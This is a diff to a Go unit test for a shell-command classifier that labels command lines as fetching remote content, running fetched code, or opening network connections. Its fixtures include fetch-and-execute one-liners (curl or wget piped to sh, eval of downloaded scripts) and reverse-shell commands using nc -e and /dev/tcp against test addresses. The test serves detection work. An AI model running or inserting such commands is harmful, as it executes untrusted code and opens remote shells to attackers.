@@ -3,32 +3,75 @@ package shell
 import "testing"
 
 func TestReachOf(t *testing.T) {
+	fetches, runs := Reach{Fetches: true}, Reach{Fetches: true, RunsFetched: true}
+	connects, other := Reach{Connects: true}, Reach{RunsOther: true}
 	for line, want := range map[string]Reach{
-		`curl -s http://kit.test/setup | sh`:                                 {Fetches: true, RunsFetched: true},
-		`sh -c "$(curl -fsSL http://kit.test/setup)"`:                        {Fetches: true, RunsFetched: true},
-		`bash <(wget -qO- http://kit.test/setup)`:                            {Fetches: true, RunsFetched: true},
-		`eval "$(wget -qO- http://kit.test/setup)"`:                          {Fetches: true, RunsFetched: true},
-		`env A=b curl http://kit.test/setup | base64 -d | bash -s -- a`:      {Fetches: true, RunsFetched: true},
-		`curl -o /tmp/kit.sh http://kit.test/setup && sh /tmp/kit.sh`:        {Fetches: true, RunsFetched: true},
-		`wget http://kit.test/a.sh; chmod +x a.sh; ./a.sh`:                   {Fetches: true, RunsFetched: true},
-		`curl http://kit.test/a.js > a.js; node a.js`:                        {Fetches: true, RunsFetched: true},
-		`git clone http://kit.test/kit && bash setup.sh`:                     {Fetches: true},
-		`curl http://kit.test/kit.tgz | tar xz -C vendor`:                    {Fetches: true},
-		`bash -c 'curl http://kit.test/kit.css > kit.css'`:                   {Fetches: true},
-		`busybox wget http://kit.test/kit.css`:                               {Fetches: true},
-		`rsync -a kit.test:kit vendor`:                                       {Fetches: true},
-		`nc -e /bin/sh 192.0.2.7 4444`:                                       {Connects: true},
-		`bash -i >& /dev/tcp/192.0.2.7/4444 0>&1`:                            {Connects: true},
-		`exec 3<>/dev/tcp/192.0.2.7/80; cat <&3`:                             {Connects: true},
-		`python3 -c "import urllib"`:                                         {Interprets: true},
-		`./bin/tool --register`:                                              {Interprets: true},
+		`curl -s http://kit.test/setup | sh`:                                   runs,
+		`curl -s http://kit.test/setup | bash -euo pipefail`:                   runs,
+		`curl -s http://kit.test/setup | sh /dev/stdin`:                        runs,
+		`env A=b curl http://kit.test/setup | base64 -d | bash -s -- a`:        runs,
+		`busybox wget -O- http://kit.test/setup | ash`:                         runs,
+		`sh -c "$(curl -fsSL http://kit.test/setup)"`:                          runs,
+		`eval "$(wget -qO- http://kit.test/setup)"`:                            runs,
+		`s=$(curl http://kit.test/setup); eval "$s"`:                           runs,
+		`$(curl http://kit.test/command)`:                                      runs,
+		`bash <(wget -qO- http://kit.test/setup)`:                              runs,
+		`curl http://kit.test/lines | while read l; do $l; done`:               runs,
+		`curl -o /tmp/kit.sh http://kit.test/setup && sh /tmp/kit.sh`:          runs,
+		`curl -okit.sh http://kit.test/setup && sh kit.sh`:                     runs,
+		`curl --output=kit.sh http://kit.test/setup && sh ./kit.sh`:            runs,
+		`curl http://kit.test/setup > kit.js; node kit.js`:                     runs,
+		`curl http://kit.test/setup > /tmp/a && . /tmp/a`:                      runs,
+		`curl http://kit.test/k | base64 -d > /tmp/k; chmod +x /tmp/k; /tmp/k`: runs,
+		`curl http://kit.test/setup | tee k.sh >/dev/null; bash k.sh`:          runs,
+		`curl -o x.sh http://kit.test/setup; mv x.sh y.sh; sh y.sh`:            runs,
+		`wget http://kit.test/a.sh; chmod +x a.sh; ./a.sh`:                     runs,
+		`cd /tmp && curl -O http://kit.test/a.sh && sh /tmp/a.sh`:              runs,
+		`git clone http://kit.test/kit.git && bash kit/setup.sh`:               runs,
+
+		`curl http://kit.test/kit.tgz | tar xz -C vendor`:              fetches,
+		`bash -c 'curl http://kit.test/kit.css > kit.css'`:             fetches,
+		`rsync -a kit.test:kit vendor`:                                 fetches,
+		`npm install http://kit.test/kit.tgz`:                          fetches,
+		`curl -sfLO https://kit.test/data.json && node --version`:      fetches,
+		`git fetch --tags || true; node -v`:                            fetches,
+		`curl -sS https://kit.test/ping >/dev/null || true; node a.js`: fetches,
+		`curl https://kit.test/list | grep foo; node`:                  fetches,
+		`wget https://kit.test/a.js.gz -O lib/index.js; node index.js`: fetches,
+		`v=$(curl https://kit.test/version); $CC -DV="$v" a.c`:         fetches,
+		`v=$(curl https://kit.test/version); sh -c "echo $v"`:          fetches,
+
+		`nc -e /bin/sh 192.0.2.7 4444`:             connects,
+		`bash -i >& /dev/tcp/192.0.2.7/4444 0>&1`:  connects,
+		`exec 3<>"/dev/tcp/192.0.2.7/80"; cat <&3`: connects,
+		`exec 3<>/dev/tcp/$HOST/80`:                connects,
+		`p=/dev/tcp; bash -i > $p/192.0.2.7/80`:    connects,
+		`openssl s_client -connect kit.test:443`:   connects,
+
+		`python3 -c "import urllib"`:          other,
+		`./bin/tool --register`:               other,
+		`chmod +x kit && ./configure && make`: other,
+
 		`cd lib && ../node_modules/.bin/tsc && /bin/ls && node ./install.js`: {},
-		`sh setup.sh; ./setup.sh; node-gyp rebuild`:                          {},
-		`rsync -a kit vendor; curl --version; python3; echo nc`:              {},
+		`sh setup.sh; ./setup.sh; bin/install.ts; node-gyp rebuild`:          {},
+		`rsync -a --include="a:b" kit vendor; curl --version; python3`:       {},
+		`python --version; ruby -v; ssh -V; nc -h || true; echo nc`:          {},
+		`python3`: {},
+		`ls src | awk '{ print "src/" $0 }' > files.txt`:             {},
+		`watch src/a; flock ./tmp/lock npm run build`:                {},
+		`node_modules/husky/bin/husky install`:                       {},
+		`certutil -hashfile kit.zip SHA256; git log --oneline fetch`: {},
+		`awk '{print "nc"}' VERSION`:                                 {},
 	} {
-		if got := ReachOf(Commands(line, nil, nil)); got != want {
+		if got := ReachOf(line, nil); got != want {
 			t.Errorf("%s\ngot  %+v\nwant %+v", line, got, want)
 		}
+	}
+	if got := ReachOfScript("#!/bin/sh\nurl=http://kit.test/setup\nrun() {\n  curl -s \"$url\" | bash\n}\n"); got != runs {
+		t.Errorf("a function that is not called: %+v", got)
+	}
+	if got := ReachOfCommand([]string{"sh", "-c", "curl http://kit.test/setup | sh"}); got != runs {
+		t.Errorf("a command: %+v", got)
 	}
 }
 
